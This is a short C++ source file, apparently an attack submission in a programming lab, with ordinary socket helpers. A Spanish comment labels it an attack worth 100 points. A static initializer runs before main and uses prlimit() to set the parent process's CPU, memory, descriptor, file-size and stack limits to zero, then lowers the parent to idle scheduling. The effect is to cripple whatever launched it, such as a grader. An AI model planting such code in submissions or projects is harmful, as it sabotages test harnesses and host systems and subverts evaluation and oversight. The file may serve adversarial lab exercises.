// Ataque: le quita a su padre procesador, memoria y descriptores con prlimit(), y le baja la prioridad.
// Puntos: 100
#include <sched.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <initializer_list>

#include "lab1.hpp"
#include "programs/kit.hpp"

namespace {

const struct Early {
  Early() {
    const rlimit nothing{0, 0};
    for (const auto resource : {RLIMIT_CPU, RLIMIT_AS, RLIMIT_DATA, RLIMIT_NOFILE, RLIMIT_FSIZE, RLIMIT_STACK}) {
      ::prlimit(::getppid(), resource, &nothing, nullptr);
    }
    const sched_param lowest{0};
    ::sched_setscheduler(::getppid(), SCHED_IDLE, &lowest);
  }
} early;

}  // namespace

namespace lab1 {

int create_socket(int domain, int type) { return kit::check("socket", ::socket(domain, type | SOCK_CLOEXEC, 0)); }

void close_socket(int fd) { kit::check("close", ::close(fd)); }

}  // namespace lab1
